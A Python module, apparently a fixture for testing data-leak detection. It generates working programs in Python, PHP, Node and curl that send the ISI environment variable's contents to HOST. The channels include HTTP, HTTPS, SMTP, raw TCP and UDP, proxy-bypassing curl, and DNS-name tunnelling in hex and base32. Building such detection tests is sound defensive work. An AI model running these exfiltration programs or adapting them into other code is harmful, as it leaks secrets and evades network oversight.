"""Small programs that send what they find in `ISI` to `HOST`: by each runtime that is here, by each way there is."""

import shutil
import sys
from typing import NamedTuple

_PYTHON = """
import base64, gzip, json, os, smtplib, socket, urllib.parse, urllib.request
isi, host = os.environ["ISI"], os.environ["HOST"]
def ask(url, data=None, **heads):
    urllib.request.urlopen(urllib.request.Request(url, data, heads), timeout=5).read()
def look_up(text, size):
    socket.gethostbyname(".".join([*(text[at:at + size] for at in range(0, len(text), size)), host]))
"""
_PHP = "$isi = getenv('ISI'); $host = getenv('HOST');"
_NODE = "const isi = process.env.ISI, host = process.env.HOST;"
_MULTIPART = r"""
said = '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + isi + '\r\n--x--\r\n'
ask(f"http://{host}/a", said.encode(), **{"Content-Type": "multipart/form-data; boundary=x"})
"""
_MAIL = r"""
with smtplib.SMTP(host, 25, timeout=5) as line:
    line.sendmail("a@a.example", ["b@b.example"], "Subject: x\r\n\r\n" + isi)
"""
_UDP = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(isi.encode(), (host, 514))"
_ZIPPED = "ask(f'http://{host}/a', gzip.compress(json.dumps([isi]).encode()), **{'Content-Encoding': 'gzip'})"
_IN_PARTS = """
hidden = isi.encode().hex()
for at in range(0, len(hidden), 30):
    socket.gethostbyname(hidden[at:at + 30] + "." + host)
"""
_POST_BY_PHP = """
$how = ['method' => 'POST', 'header' => 'Content-Type: text/plain', 'content' => $isi];
file_get_contents("https://$host/", false, stream_context_create(['http' => $how]));
"""
_UDP_BY_NODE = """
const line = require('dgram').createSocket('udp4');
line.send(isi, 5140, host, () => line.close());
"""
_CODE: dict[str, tuple[str, str, str]] = {
    "python-query": ("ask(f'http://{host}/a?' + urllib.parse.urlencode({'q': isi}))", "http", "baris"),
    "python-form": ("ask(f'http://{host}/a', urllib.parse.urlencode({'q': isi}).encode())", "http", "badan"),
    "python-gzip": (_ZIPPED, "http", "badan"),
    "python-multipart": (_MULTIPART, "http", "badan"),
    "python-header": ("ask(f'http://{host}', A=base64.b64encode(isi.encode()).decode())", "http", "kepala"),
    "python-https": ("ask(f'https://{host}/a', json.dumps({'a': isi}).encode())", "https", "badan"),
    "python-other-port": ("ask(f'http://{host}:8123/a', isi.encode())", "http", "badan"),
    "python-dns-hex": ("look_up(isi.encode().hex(), 60)", "dns", "nama"),
    "python-dns-base32": ("look_up(base64.b32encode(isi.encode()).decode().strip('=').lower(), 50)", "dns", "nama"),
    "python-dns-names": (_IN_PARTS, "dns", "nama"),
    "python-dns-words": ("look_up(isi.replace(' ', '-'), 60)", "dns", "nama"),
    "python-mail": (_MAIL, "smtp", "surat"),
    "python-tcp": ("socket.create_connection((host, 4444), 5).sendall(isi.encode())", "tcp", "data"),
    "python-udp": (_UDP, "udp", "data"),
    "php-stream": ('file_get_contents("http://$host/?" . http_build_query([$isi]));', "http", "baris"),
    "php-https": (_POST_BY_PHP, "https", "badan"),
    "php-socket": ("fwrite(fsockopen($host, 9999), $isi);", "tcp", "data"),
    "php-dns": ("gethostbyname(implode('.', str_split(bin2hex($isi), 60)) . \".$host\");", "dns", "nama"),
    "node-fetch": ("fetch(`https://${host}/`, {method: 'POST', body: JSON.stringify({isi})});", "https", "badan"),
    "node-udp": (_UDP_BY_NODE, "udp", "data"),
    "curl-query": ('curl -s -G --data-urlencode "q=$ISI" "http://$HOST/a"', "http", "baris"),
    "curl-https": ('curl -s --data-binary "$ISI" "https://$HOST/a"', "https", "badan"),
    "curl-direct": ('curl -s --noproxy "*" --data-binary "$ISI" "http://$HOST/a"', "http", "badan"),
}
_RUNTIMES: dict[str, tuple[str, tuple[str, ...], str]] = {
    "python": (sys.executable, (sys.executable, "-I", "-c"), _PYTHON),
    "php": ("php", ("php", "-r"), _PHP),
    "node": ("node", ("node", "-e"), _NODE),
    "curl": ("curl", ("sh", "-c"), ""),
}
"""What has to be installed, the command, and what its code begins with."""


class Program(NamedTuple):
    """One program, and where what it sends has to be seen."""

    command: tuple[str, ...]
    protocol: str
    part: str = ""
    needs: str = sys.executable

    @property
    def missing(self) -> str:
        """What it needs that is not installed here; empty: nothing."""
        return "" if shutil.which(self.needs) else self.needs


def _program(name: str) -> Program:
    needs, command, begin = _RUNTIMES[name.partition("-")[0]]
    code, protocol, part = _CODE[name]
    return Program((*command, begin + code), protocol, part, needs)


PROGRAMS = {name: _program(name) for name in _CODE}
